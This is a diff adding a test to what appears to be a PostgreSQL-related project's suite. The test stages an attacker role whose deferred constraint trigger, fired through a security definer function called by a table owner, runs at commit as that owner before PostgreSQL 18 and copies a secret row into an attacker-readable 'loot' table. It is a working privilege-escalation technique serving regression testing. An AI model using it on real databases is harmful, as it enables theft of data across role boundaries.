@@ -223,4 +223,54 @@ describe("a table of an owner who is accepted", function () {
       expect(await owns.find()).to.deep.equal([{ id: 1, name: "one" }]);
       expect(stage.ran).to.deep.equal([]);
     }));
+
+  // Why rows of others are not rebuilt by functions of their owners, which would seem to keep their code to their rights.
+  it("has code that would outlive a function of its owner, and run at the commit as whoever commits, before PostgreSQL 18", () =>
+    Stage.set("trigger", async (stage) => {
+      const { attacker, owner } = stage.world.roles;
+      await stage.world.query("create table shop.secret as select 'secret' as word");
+      await stage.world.query(`alter table shop.secret owner to ${owner}`);
+      await stage.as(
+        "attacker",
+        `create table theirs.loot (as_role name, word text);
+        grant all on theirs.loot to public;
+        create table theirs.later (times integer);
+        create function theirs.spy() returns trigger language plpgsql as $$
+          declare found text := 'refused';
+          begin
+            begin
+              select word into found from shop.secret;
+            exception when insufficient_privilege then null;
+            end;
+            insert into theirs.loot values (current_user, found);
+            -- Fired early, it waits for the commit once more.
+            set constraints all deferred;
+            if new.times > 0 then insert into theirs.later values (new.times - 1); end if;
+            return null;
+          end $$;
+        create constraint trigger spy after insert on theirs.later deferrable initially deferred
+          for each row execute function theirs.spy();
+        create function theirs.checked() returns boolean language plpgsql as $$
+          begin
+            insert into theirs.later values (1);
+            return true;
+          end $$;
+        create table theirs.bill (id integer check (theirs.checked()));
+        create function theirs.rebuild() returns void language plpgsql security definer as $$
+          begin
+            insert into theirs.bill values (1);
+            set constraints all immediate;
+            set constraints all deferred;
+          end $$;
+        grant execute on function theirs.rebuild() to ${owner}; grant usage on schema theirs to ${owner}`,
+      );
+      await stage.as("owner", "select theirs.rebuild()");
+      const [{ version } = {}] = await stage.world.query(
+        "select current_setting('server_version_num')::integer as version",
+      );
+      expect(await stage.world.query("select * from theirs.loot")).to.deep.equal([
+        { as_role: attacker, word: "refused" },
+        Number(version) < 180_000 ? { as_role: owner, word: "secret" } : { as_role: attacker, word: "refused" },
+      ]);
+    }));
 });
